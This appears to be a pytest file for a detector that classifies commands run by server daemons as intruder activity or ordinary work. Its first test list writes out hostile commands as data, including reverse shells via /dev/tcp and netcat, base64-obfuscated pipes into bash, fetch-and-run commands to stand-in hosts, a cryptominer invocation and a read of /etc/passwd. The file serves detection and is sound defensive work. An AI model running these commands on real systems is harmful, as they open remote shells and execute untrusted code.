import pytest

from hemostat.detect.commands_of_daemons import asks_about_self, is_loose, is_plain, reason_of

pytestmark = pytest.mark.requirement("B3")


@pytest.mark.parametrize(
    "command",
    [
        "bash -c 'bash -i >& /dev/tcp/198.51.100.4/443 0>&1'",
        "nc 198.51.100.4 443 -e /bin/sh",
        "echo aWQK|base64 -d|bash",
        "bash -c {echo,aWQKaWQKaWQK}|{base64,-d}|bash",
        "sh -c 'wget -qO- http://x.example/a|sh'",
        "curl -o /var/www/x http://x.example/a; chmod +x /var/www/x",
        "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'",
        "/dev/shm/.x/run",
        "./kdevtmpfsi -o pool.example.org:3333",
        "wget http://198.51.100.4/x",
        "sh -c 'id; uname -a'",
        "cat /etc/passwd; id",
    ],
)
def test_an_intruders_work_is_named(command: str) -> None:
    assert reason_of(command)


@pytest.mark.parametrize(
    "command",
    [
        "/usr/sbin/sendmail -t -i",
        "sh -c 'convert a.png b.jpg'",
        "curl -fsS https://api.example.org/health",
        "curl http://10.0.0.4/status",
        "gzip -9 > /srv/backup/t.gz",
        "id -gn ann",
        "node build.js",
        "/usr/bin/php /var/www/html/cron.php",
    ],
)
def test_ordinary_work_is_not(command: str) -> None:
    assert reason_of(command) == ""


def test_questions_and_places() -> None:
    assert asks_about_self("sh -c 'id'")
    assert not asks_about_self("sh -c 'id -u backup'")
    assert is_plain("gzip -c")
    assert not is_plain("curl x")
    assert is_loose("/tmp/x")
    assert not is_loose("/usr/bin/x")
